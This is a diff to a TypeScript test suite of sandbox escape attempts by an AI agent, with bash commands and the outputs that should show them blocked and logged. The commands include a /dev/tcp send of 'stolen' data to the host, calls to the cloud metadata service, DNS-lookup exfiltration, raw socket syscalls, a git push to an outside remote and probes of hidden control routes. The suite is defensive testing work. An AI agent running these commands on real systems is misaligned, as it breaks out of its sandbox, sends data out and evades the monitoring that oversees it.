@@ -1,11 +1,14 @@
 import { type AgentAttack, bash } from '../attack';
+import { numberOf } from './systemCalls';
 
 const namespace = 'The pod has a network namespace of its own with nothing in it but the twins.';
 const network = { rule: 'network', leaves: 'tool.finished', stoppedBy: namespace } as const;
+/** The kernel counts who looks for an address outside, and the pod's own resolver hears every name. */
+const outside = { ...network, leaves: 'network.refused' } as const;
 
 /** Sends a request to the twin of the pod and prints the answer's status. */
 const ask = (method: string, route: string, headers = '') =>
-  `exec 9<>/dev/tcp/127.0.0.1/$port && printf '${method} ${route} HTTP/1.1\\r\\nHost: ${'${host}'}\\r\\n${headers}Content-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}' >&9 && head -1 <&9 | tr -d '\\r'`;
+  `exec 9<>/dev/tcp/127.0.0.1/$port && printf '${method} ${route} HTTP/1.1\\r\\nHost: '$host'\\r\\n${headers}Content-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}' >&9 && head -1 <&9 | tr -d '\\r'`;
 
 /** `$port` of the pod's twin. */
 const twinPort = `port=$(echo $SLACK_API_URL | sed -E 's,.*:([0-9]+).*,\\1,'); host=127.0.0.1:$port`;
@@ -25,16 +28,17 @@ export const networkAttacks: readonly AgentAttack[] = [
     shows: /refused[\s\S]*(refused|unreachable|Cannot assign)/,
   },
   {
-    ...network,
+    ...outside,
     id: 'tcp-host-address',
     tries: 'connects to the host by its own address',
     calls: ({ tcpPort, hostAddress }) => [
       bash(`exec 9<>/dev/tcp/${hostAddress}/${tcpPort} && echo stolen >&9`),
     ],
-    shows: /unreachable|refused/,
+    shows: /unreachable/,
+    tells: /"an address outside","command":"exec 9<>\/dev\/tcp.*stolen/,
   },
   {
-    ...network,
+    ...outside,
     id: 'tcp-internet',
     tries: 'calls out to the internet and to the cloud’s metadata service',
     calls: () => [
@@ -43,9 +47,10 @@ export const networkAttacks: readonly AgentAttack[] = [
       ),
     ],
     shows: /(unreachable[\s\S]*){3}/,
+    tells: /"addresses outside, \d times","command":".*169\.254\.169\.254/,
   },
   {
-    ...network,
+    ...outside,
     id: 'udp',
     tries: 'sends datagrams to the host and to a name server',
     calls: ({ udpPort, hostAddress }) => [
@@ -54,13 +59,15 @@ export const networkAttacks: readonly AgentAttack[] = [
       ),
     ],
     shows: /unreachable[\s\S]*unreachable/,
+    tells: /"addresses outside, \d times","command":".*\/dev\/udp/,
   },
   {
-    ...network,
+    ...outside,
     id: 'dns',
     tries: 'hides bytes in the names it looks up',
     calls: () => [bash('getent hosts 6869.example.com || echo none; cat /etc/resolv.conf')],
     shows: /^none$[\s\S]*No such file/m,
+    tells: /"target":"6869\.example\.com"/,
   },
   {
     ...network,
@@ -90,7 +97,7 @@ export const networkAttacks: readonly AgentAttack[] = [
     tries: 'opens raw, packet and hypervisor sockets',
     calls: () => [
       bash(
-        `perl -e 'for ([2, 3, 1], [17, 3, 768], [40, 1, 0], [38, 5, 0]) { $r = syscall(41, @$_); print "$r ", $!+0, "\\n" }'`,
+        `perl -e 'for ([2, 3, 1], [17, 3, 768], [40, 1, 0], [38, 5, 0]) { $r = syscall(${numberOf('socket')}, @$_); print "$r ", $!+0, "\\n" }'`,
       ),
     ],
     shows: /^-1 (1|13)\n-1 97\n-1 97\n-1 97$/m,
@@ -119,21 +126,27 @@ export const networkAttacks: readonly AgentAttack[] = [
     ...network,
     id: 'proxy-variables',
     rule: 7,
-    stoppedBy: 'The environment inside is made from nothing; no proxy of the host is in it.',
+    stoppedBy: 'The environment inside is made from nothing; the only proxy in it leads to the twins.',
     tries: 'uses proxies and endpoints from the environment',
-    calls: () => [bash('env | grep -iE "proxy|base_url|otel" || echo none')],
+    calls: ({ tcpPort }) => [
+      bash(`env | grep -iE "base_url|otel"; env | grep ":${tcpPort}" && echo inherited || echo none`),
+    ],
     shows: /^none/,
   },
   {
-    ...network,
+    ...outside,
     id: 'push-history',
     rule: 25,
     stoppedBy: 'Agents have a repository of their own, with one commit and no remote.',
     tries: 'pushes its work to a remote, and fetches the person’s history',
     calls: ({ workspace }) => [
-      bash(`git remote -v; git fetch ${workspace}; git push origin main; git ls-remote file://${workspace}`),
+      bash(
+        `git remote -v; git fetch ${workspace}; git push origin main; git ls-remote file://${workspace}; git push https://git.example.org/theirs.git HEAD`,
+      ),
     ],
-    shows: /does not (exist|appear)|not appear to be a git repository/,
+    shows:
+      /(does not (exist|appear)|not appear to be a git repository)[\s\S]*(Could not resolve host|tunnel failed)/,
+    tells: /"target":"git\.example\.org"/,
   },
   {
     ...network,
@@ -147,8 +160,8 @@ export const networkAttacks: readonly AgentAttack[] = [
         `${twinPort}; for route in /_twin/state /_twin/reset /%5ftwin/calls /api/../_twin/faults //_twin/snapshot /calls /state /reset /faults /nothing-at-all; do for host in 127.0.0.1:$port control localhost:$port; do (${ask('POST', "'$route'")}); done; done | sort | uniq -c`,
       ),
     ],
-    shows: /^\s*30 HTTP\/1\.1 404/m,
-    hides: / 200/,
+    shows: /^\s*\d+ HTTP\/1\.1 404/m,
+    hides: /HTTP\/1\.1 (?!404|421)/,
   },
   {
     ...network,
@@ -180,9 +193,9 @@ export const networkAttacks: readonly AgentAttack[] = [
     ...network,
     id: 'other-listeners',
     rule: 15,
-    stoppedBy: 'Nothing but the twins listens in the pod.',
+    stoppedBy: 'Nothing but the twin, by both of its schemes, and the way to it listens in the pod.',
     tries: 'looks for anything else that listens in the pod',
     calls: () => [bash(`tail -n +2 -q /proc/net/tcp /proc/net/tcp6 | awk '$4 == "0A"' | wc -l`)],
-    shows: /^1$/m,
+    shows: /^3$/m,
   },
 ];
